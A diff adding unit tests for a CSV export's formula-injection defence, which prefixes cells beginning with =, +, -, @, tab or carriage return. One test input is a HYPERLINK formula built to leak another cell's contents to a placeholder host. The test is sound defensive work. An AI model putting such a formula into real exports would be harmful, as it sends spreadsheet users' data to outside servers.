@@ -6,6 +6,7 @@ import { parse } from 'csv-parse/sync';
 import { ExportTable } from './export-table';
 import { asAsync } from './testing/sample-table';
 import { writeExport } from './write-export';
+import { neutralizeFormula } from './csv-writer';
 
 const columns = [
   { header: 'STT', key: 'stt' },
@@ -59,5 +60,26 @@ describe('writeExport csv', () => {
     expect(text).toContain('"Dòng một\nDòng hai\r\nDòng ba"');
     expect(text).toContain('"Ký tự lẻ\rở giữa"');
     expect(text.endsWith('5,Phạm Hữu Lộc,70.00,\r\n')).toBe(true);
+  });
+});
+
+describe('neutralizeFormula', () => {
+  it.each([
+    ['=HYPERLINK("http://x"&B3,"x")', `'=HYPERLINK("http://x"&B3,"x")`],
+    ['+1 sáng kiến', "'+1 sáng kiến"],
+    ['-2 phản ánh', "'-2 phản ánh"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\tđầu dòng', "'\tđầu dòng"],
+    ['\rdòng', "'\rdòng"],
+    ['Nguyễn Thị Hoà', 'Nguyễn Thị Hoà'],
+    ['a=b', 'a=b'],
+    ['', ''],
+  ])('text %j is written as %j', (text, expected) => {
+    expect(neutralizeFormula(text, text)).toBe(expected);
+  });
+
+  it('leaves the numbers it formats alone, negative ones included', () => {
+    expect(neutralizeFormula(-3, '-3')).toBe('-3');
+    expect(neutralizeFormula(null, '')).toBe('');
   });
 });
